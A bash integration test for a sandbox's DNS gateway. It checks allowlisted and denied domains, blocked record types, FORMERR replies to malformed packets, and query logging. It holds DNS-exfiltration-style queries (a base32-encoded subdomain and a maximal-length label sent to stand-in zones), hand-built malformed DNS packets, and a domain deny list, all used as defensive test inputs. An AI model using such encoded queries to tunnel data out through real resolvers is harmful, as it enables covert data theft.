#!/bin/bash
# 20-dns-names: the gateway is the sandbox's resolver. Allowed names resolve
# (UDP and TCP, any case, trailing dot); every other name gets NXDOMAIN and
# never reaches the upstream server; types other than A are not forwarded;
# broken queries get FORMERR. One dns_queries row per query.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init dns-names
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["a.test", "*.evil.test", "plain.test"],
             "deniedDomains": ["blocked.evil.test"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
gw=$(tb_sluice sandbox list -j | "$TB_PY" -c 'import json,sys; print(json.load(sys.stdin)[0]["gateway"])')
dig_a() { tb_in a dig +time=2 +tries=1 "$@"; }
upstream_asked() { grep -ci "query\[[A-Z]*\] $1 from" "$TB_DIR/dns.log"; }

# allowed names, through resolv.conf too
tb_assert_eq "$(dig_a +short @"$gw" a.test)" "$TB_ADDR_HTTPS" "a.test resolves"
tb_assert_eq "$(tb_in a getent ahostsv4 plain.test | awk 'NR==1{print $1}')" \
    "$TB_ADDR_PLAIN" "getent (libc, resolv.conf) resolves plain.test"
tb_assert_eq "$(dig_a +short @"$gw" A.TeSt.)" "$TB_ADDR_HTTPS" "case and a trailing dot match"
tb_assert_eq "$(dig_a +short +tcp @"$gw" a.test)" "$TB_ADDR_HTTPS" "over TCP too"
tb_assert_eq "$(dig_a +short @"$gw" x.y.evil.test)" "$TB_ADDR_ATK" \
    "*.evil.test matches a subdomain at depth 2"
out=$(tb_in a curl -s --max-time 5 --cacert "$TB_CA" https://a.test/)
tb_assert_eq "$out" "hello from a.test" "curl https://a.test/ by name"
out=$(tb_in a curl -s --max-time 5 http://plain.test/)
tb_assert_eq "$out" "hello from plain.test" "curl http://plain.test/ by name"

# names that are not allowed: NXDOMAIN, and the upstream never hears of them
sleep 0.3
: > "$TB_DIR/dns.log"
for n in b.test evil.test blocked.evil.test nxd.example \
    mfrgg43fmnxw2zlpnzsxg5dfonzxi4tjnzts4y3p.nv2gk3ltn5ygk3tpnf2g64tf.evil-zone.test \
    "$(printf 'x%.0s' $(seq 63)).exfil.test"; do
	out=$(dig_a @"$gw" "$n" 2>&1)
	tb_assert_match "$out" "status: NXDOMAIN" "NXDOMAIN for ${n:0:40}"
done
out=$(dig_a @"$gw" +tcp evil.test 2>&1)
tb_assert_match "$out" "status: NXDOMAIN" "NXDOMAIN over TCP too"
sleep 0.3
tb_assert_eq "$(grep -c 'query\[' "$TB_DIR/dns.log")" 0 \
    "the upstream DNS server received no query for any of them"

# types, for an allowed name nothing else has asked about
t=types.evil.test
tb_assert_match "$(dig_a @"$gw" $t AAAA | tr '\n' ' ')" "status: NOERROR.*ANSWER: 0," \
    "AAAA: empty NOERROR (no IPv6 for sandboxes)"
tb_assert_match "$(dig_a @"$gw" $t HTTPS | tr '\n' ' ')" "status: NOERROR.*ANSWER: 0," \
    "HTTPS: empty NOERROR"
tb_assert_match "$(dig_a @"$gw" $t TXT)" "status: REFUSED" "TXT: REFUSED"
tb_assert_match "$(dig_a @"$gw" $t ANY)" "status: REFUSED" "ANY: REFUSED"
sleep 0.3
tb_assert_eq "$(upstream_asked $t)" 0 "none of these reached the upstream"

# broken queries: two questions, a pointer in the question, a stub; then a
# good one, to show the resolver is still there
reply=$(tb_in a "$TB_PY" - "$gw" <<'EOF'
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
def ask(msg):
    s.sendto(msg, (sys.argv[1], 53))
    try:
        d = s.recv(512)
        return "rcode=%d id=%d" % (d[3] & 15, struct.unpack(">H", d[:2])[0])
    except socket.timeout:
        return "none"
q = b"\x01a\x04test\x00\x00\x01\x00\x01"
print(ask(struct.pack(">HHHHHH", 4242, 0x0100, 2, 0, 0, 0) + q + q))
print(ask(struct.pack(">HHHHHH", 4243, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01"))
print(ask(b"\x10\x11\x01"))
print(ask(struct.pack(">HHHHHH", 4244, 0x0100, 1, 0, 0, 0) + q))
EOF
)
tb_assert_eq "$reply" "rcode=1 id=4242
rcode=1 id=4243
rcode=1 id=4113
rcode=0 id=4244" "FORMERR for each broken query; the resolver still answers"

tb_wait_rows "SELECT count(*) FROM dns_queries WHERE reason = 'malformed'" 3 >/dev/null
tb_assert_eq "$(tb_sql "SELECT qname, qtype, rcode, verdict, reason, rule, answers
    FROM dns_queries WHERE qname IN ('a.test', 'A.TeSt') AND qtype = 'A'
    ORDER BY id LIMIT 3")" \
"a.test|A|NOERROR|allow|allowed_domain|a.test|$TB_ADDR_HTTPS
A.TeSt|A|NOERROR|allow|allowed_domain|a.test|$TB_ADDR_HTTPS
a.test|A|NOERROR|allow|allowed_domain|a.test|$TB_ADDR_HTTPS" "rows for the allowed queries"
tb_assert_eq "$(tb_sql "SELECT proto FROM dns_queries WHERE qname = 'a.test' AND qtype = 'A'
    ORDER BY id LIMIT 1 OFFSET 1")" "tcp" "the TCP query is logged as tcp"
tb_assert_eq "$(tb_sql "SELECT rcode, verdict, reason, ifnull(rule, '-') FROM dns_queries
    WHERE qname IN ('b.test', 'blocked.evil.test') ORDER BY id")" \
"NXDOMAIN|deny|not_allowlisted|-
NXDOMAIN|deny|denied_domain|blocked.evil.test" "rows for the refused names, with the denying entry"
tb_assert_eq "$(tb_sql "SELECT qtype || ':' || rcode || ':' || reason FROM dns_queries
    WHERE qname = '$t' ORDER BY id")" \
"AAAA:NOERROR:no_ipv6
HTTPS:NOERROR:no_svcb
TXT:REFUSED:type_not_allowed
ANY:REFUSED:type_not_allowed" "rows for the types"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries WHERE rcode = 'FORMERR'
    AND verdict = 'deny'")" 3 "the broken queries are logged"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries WHERE qname LIKE 'mfrgg%'")" 1 \
    "the exfiltration attempt is on record"
tb_done
